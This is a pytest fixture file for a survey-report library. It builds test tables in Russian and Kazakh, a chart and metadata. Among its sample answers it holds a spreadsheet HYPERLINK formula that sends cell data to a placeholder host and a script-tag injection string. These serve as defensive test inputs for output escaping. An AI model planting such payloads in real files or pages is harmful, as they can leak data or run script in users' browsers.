"""A hand-built report with the cases that writers get wrong most easily.

The numbers are inputs to the writers, not statistics: they have many significant
digits so that tests can tell an unrounded value from a rounded one.
"""

from __future__ import annotations

import matplotlib

matplotlib.use("Agg")

import matplotlib.pyplot as plt
import numpy as np
import pandas as pd
import pytest

from srsurvey.tables.model import Figure, Report, Section, Table

FORMULA_TEXT = '=HYPERLINK("http://example.invalid/?q="&A1,"Открыть")'
PHONE_TEXT = "+7 700 123 45 67"
MINUS_TEXT = "-5"
AT_TEXT = "@user"
TAB_TEXT = "\tindented"
SCRIPT_TEXT = "<script>alert('x')</script>"
SMALL_P = 0.00001
LONG_ROWS = 45


@pytest.fixture(autouse=True)
def close_figures():
    yield
    plt.close("all")


def make_reliability() -> Table:
    data = pd.DataFrame(
        {
            "scale": ["Социальная ответственность", "Әлеуметтік жауапкершілік"],
            "n_items": [8, 5],
            "alpha": [0.8123456789012345, 0.6049382716049383],
            "ci_low": [0.7712345678901234, 0.5123456789012346],
            "ci_high": [0.8456789012345678, np.nan],
        }
    )
    return Table(
        name="reliability",
        title="Надёжность шкал (α Кронбаха)",
        data=data,
        description="95% CI by Feldt's method.",
        formats={"n_items": "int", "alpha": "float3", "ci_low": "float3"},
    )


def make_comparison() -> Table:
    data = pd.DataFrame(
        {
            "group": ["Город", "Село"],
            "t": [-2.3456789, 0.51234],
            "p_value": [SMALL_P, 0.0234567],
            "percent_agree": [61.23456, 38.76544],
        }
    )
    return Table(
        name="comparison",
        title="Сравнение групп",
        data=data,
        formats={
            "t": "float2",
            "p_value": "p",
            "percent_agree": "percent",
        },
    )


def make_answers() -> Table:
    data = pd.DataFrame(
        {
            "respondent": ["001", "002", "003", "004", "005", "006", "007"],
            "answer": [
                FORMULA_TEXT,
                PHONE_TEXT,
                MINUS_TEXT,
                AT_TEXT,
                SCRIPT_TEXT,
                TAB_TEXT,
                None,
            ],
            "score": [-0.5, 1.25, np.nan, 3.0, 4.0, 5.5, 2.0],
        }
    )
    return Table(
        name="answers",
        title="Ответы на открытый вопрос",
        data=data,
        formats={"score": "float2"},
    )


def make_item_means() -> Table:
    """A table longer than the Markdown limit that no section shows."""
    rng = np.random.default_rng(20240501)
    data = pd.DataFrame(
        {
            "item": [f"Q{i}" for i in range(1, LONG_ROWS + 1)],
            "mean": rng.uniform(1, 5, LONG_ROWS),
        }
    )
    return Table(
        name="item_means",
        title="Item means",
        data=data,
        formats={"mean": "float2"},
    )


def make_figure() -> Figure:
    figure, axes = plt.subplots(figsize=(4, 2.5))
    axes.bar(["Да", "Нет", "Иә"], [12, 7, 5], color="#4c72b0")
    axes.set_title("Ответы")
    return Figure(
        name="answers_chart",
        title="Распределение ответов",
        figure=figure,
        caption="N = 24.",
        alt_text="Bar chart: Да 12, Нет 7, Иә 5.",
    )


@pytest.fixture
def report() -> Report:
    return build_report()


@pytest.fixture
def reliability_table() -> Table:
    return make_reliability()


@pytest.fixture
def answers_table() -> Table:
    return make_answers()


@pytest.fixture
def formula_texts() -> list[str]:
    """The answers that a spreadsheet would read as formulas."""
    return [FORMULA_TEXT, PHONE_TEXT, MINUS_TEXT, AT_TEXT, TAB_TEXT]


def build_report() -> Report:
    report = Report(title="Социальная ответственность студентов", name="sr-study")
    for table in (make_reliability(), make_comparison(), make_answers()):
        report.add_table(table)
    report.add_table(make_item_means())
    report.add_figure(make_figure())

    report.sections.append(
        Section("Надёжность")
        .text("Альфа Кронбаха по каждой шкале.")
        .table("reliability")
        .figure("answers_chart")
    )
    report.sections.append(
        Section("Comparisons <b>bold?</b>")
        .text("Welch's t-test, two-sided.")
        .table("comparison")
        .table("answers")
    )
    report.methods = ["Missing answers were excluded listwise."]
    report.quality = ["Rows read: 24.", "Duplicates removed: 1."]
    report.warnings = ["Item Q7 correlates negatively with its scale <check>."]
    report.results = {
        "reliability": {
            "alpha": np.float64(0.8123456789012345),
            "n": np.int64(24),
            "omega": np.nan,
        },
        "started": pd.Timestamp("2024-05-01 10:30:00", tz="UTC"),
        "groups": ["Город", "Село"],
    }
    report.manifest = {
        "versions": {"srsurvey": "9.8.7", "pandas": pd.__version__},
        "inputs": [{"file": "ответы.csv", "sha256": "0" * 64}],
    }
    return report
